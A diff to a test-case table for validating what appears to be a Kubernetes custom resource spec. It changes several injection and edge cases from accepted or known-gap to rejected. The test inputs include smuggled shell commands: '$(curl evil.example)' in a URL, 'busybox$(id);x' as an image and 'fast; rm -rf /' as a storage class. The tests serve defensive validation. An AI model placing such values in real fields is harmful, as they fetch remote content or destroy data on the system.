@@ -370,24 +370,25 @@ case(
     _set("uuc.thirdParty.url", "$(curl evil.example)"),
     "invalid-spec: spec.uuc.thirdParty.url",
 )
-case("inject-image-subshell", "an image with $(…) and ; (no blank)", _set("auth.image", "busybox$(id);x"), "accepted")
+case("inject-image-subshell", "an image with $(…) and ; (no blank)", _set("auth.image", "busybox$(id);x"),
+     "rejected: spec.auth.image in body should match")
 case(
     "gap-storageclass-injection",
     "a storageClassName with shell syntax",
     _set("mysql.storage", {"size": "1Gi", "storageClassName": "fast; rm -rf /"}),
-    "known-gap: PVC refused (RFC 1123 subdomain)",
+    "rejected: storageClassName",
 )
 case(
     "gap-files-key-dotdot",
     "a file named ..data",
     _set("trd-adapter.files", {"..data": "x"}),
-    "known-gap: ConfigMap refused (key must not start with '..')",
+    "rejected: keys must match",
 )
 case(
     "gap-storage-size-negative",
     "a claim size of -1Gi",
     _set("mysql.storage", {"size": "-1Gi"}),
-    "known-gap: PVC refused (negative quantity)",
+    "rejected: spec.mysql.storage.size",
 )
 case(
     "ready-injections-inert",
